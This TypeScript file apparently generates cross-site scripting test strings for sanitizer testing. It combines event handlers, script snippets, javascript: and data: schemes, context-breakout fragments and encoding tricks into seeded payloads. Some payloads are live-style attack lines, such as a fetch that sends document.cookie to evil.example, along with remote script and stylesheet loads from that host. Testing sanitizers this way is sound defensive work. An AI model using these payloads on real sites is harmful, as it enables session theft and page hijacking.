/** Markup that tries to run as script, made of parts: what runs, when, where it stands and how it is disguised. */
import { createRandom, distinct, type Random } from './random.ts'

const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onpointerenter',
  'onbegin',
  'onanimationstart',
]
const CODE = ['alert(1)', "fetch('//evil.example/'+document.cookie)", 'top.location=`//evil.example`', 'eval(name)']
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,',
]

type Shape = (event: string, code: string, scheme: string) => string

const MARKUP: readonly Shape[] = [
  (_, code) => `<script>${code}</script>`,
  (_, code) => `<script src=//evil.example/${code.length}.js></script>`,
  (event, code) => `<img src=x ${event}=${code}>`,
  (event, code) => `<img/src="x"/${event}="${code}"/>`,
  (event, code) => `<svg ${event}='${code}'></svg>`,
  (event, code) => `<svg><animate ${event}=${code} attributeName=x dur=1s>`,
  (_, code) => `<svg><script xlink:href="data:,${code}"/></svg>`,
  (event, code) => `<math><mtext><table><mglyph><style><img src ${event}=${code}>`,
  (event, code) => `<details open ${event}=${code}>`,
  (event, code) => `<input autofocus ${event}=${code}>`,
  (event, code) => `<body ${event}=${code}>`,
  (event, code) => `<xss contenteditable tabindex=1 ${event}=${code}>`,
  (_, code, scheme) => `<a href="${scheme}${code}">here</a>`,
  (_, code, scheme) => `<iframe src="${scheme}${code}"></iframe>`,
  (_, code, scheme) => `<form action="${scheme}${code}"><button>go</button></form>`,
  (_, code, scheme) => `<button formaction=${scheme}${code}>go</button>`,
  (_, code, scheme) => `<object data="${scheme}${code}"></object><embed src="${scheme}${code}">`,
  (_, code, scheme) => `<meta http-equiv="refresh" content="0;url=${scheme}${code}">`,
  (_, code) => `<iframe srcdoc="&lt;script&gt;${code}&lt;/script&gt;"></iframe>`,
  () => '<base href="//evil.example/">',
  () => '<link rel=stylesheet href=//evil.example/x.css>',
  () => '<style>@import "//evil.example/x.css";p{background:url(javascript:alert(1))}</style>',
  (_, code, scheme) => `[see here](${scheme}${code})`,
  (_, code, scheme) => `![x](${scheme}${code} "onerror=${code}")`,
  (_, code, scheme) => `<${scheme}${code}>`,
  (event, code) => `<noscript><p title="</noscript><img src=x ${event}=${code}>">`,
  () => '<plaintext>',
  (_, code) => `<template><script>${code}</script></template>`,
]

/** What closes the place where a careless page would put the text. */
const BREAKOUTS = [
  '', '"', "'", '`', '">', "'>", '/>', '</b></p></section></main>', '</textarea>', '</title>', '</style>', '</script>',
  '<!--', '-->', ']]>', '<![CDATA[', '{{', '${', '%}', '\\"', '&quot;>', '" autofocus onfocus="alert(1)" x="',
  "' style='animation:x' onanimationstart='alert(1)",
] // biome-ignore format: a list of short marks reads best in rows

type Disguise = (text: string, random: Random) => string

const everyLetter =
  (change: (letter: string, at: number) => string): Disguise =>
  (text) =>
    [...text].map(change).join('')
const entity = (format: (code: number) => string) =>
  everyLetter((letter) => (/[<>"'/=:(]/.test(letter) ? format(letter.charCodeAt(0)) : letter))
const inserted =
  (mark: string): Disguise =>
  (text, random) => {
    const at = Math.floor(random.next() * text.length)
    return `${text.slice(0, at)}${mark}${text.slice(at)}`.toWellFormed()
  }

const DISGUISES: readonly Disguise[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  everyLetter((letter, at) => (at % 2 ? letter.toUpperCase() : letter)),
  entity((code) => `&#${code};`),
  entity((code) => `&#x${code.toString(16)}`),
  entity((code) => `&#0000${code};`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => encodeURIComponent(text.toWellFormed()),
  (text) => encodeURIComponent(encodeURIComponent(text.toWellFormed())),
  entity((code) => `\\u${code.toString(16).padStart(4, '0')}`),
  entity((code) => `\\x${code.toString(16)}`),
  entity((code) => String.fromCharCode(code + 0xfee0)),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '<\u0338').replaceAll('s', 'ſ').replaceAll('k', '\u212a'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\f'),
  (text) => `\ufeff${text}`,
  (text) => text.split('').join('\u200b'),
  (text) => `\u202e${[...text].reverse().join('')}`,
  inserted('\u0000'),
  inserted('\u200d'),
  inserted('\u2028'),
  inserted('\u0080'),
  inserted('\r'),
]

/** Distinct texts, the same for the same seed, in every combination of the parts. */
export function createXss(count: number, seed: number): string[] {
  const random = createRandom(seed)
  return distinct(count, () => {
    const markup = random.pick(MARKUP)(random.pick(EVENTS), random.pick(CODE), random.pick(SCHEMES))
    return random.pick(DISGUISES)(`${random.pick(BREAKOUTS)}${markup}`, random)
  })
}
